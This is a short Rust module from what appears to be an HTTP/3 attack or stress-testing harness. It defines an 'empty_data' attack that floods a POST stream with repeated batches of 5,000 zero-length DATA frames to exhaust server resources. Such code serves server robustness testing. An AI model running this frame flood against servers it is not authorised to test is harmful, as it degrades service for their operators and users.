//! DATA frames without a byte in them.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("empty_data", "DATA frames of zero bytes", run);

fn run(a: &mut Attacker) {
    let post = wire::post(a.kind.sink());
    let frames = wire::data(b"").repeat(5_000);
    a.storm(|conn, body: &mut Option<StreamId>| {
        if body.is_none() {
            *body = conn.request(&post);
        }
        if let Some(id) = *body
            && conn.takes(id)
        {
            conn.write(id, &frames);
            conn.ops += 5_000;
        }
    });
}
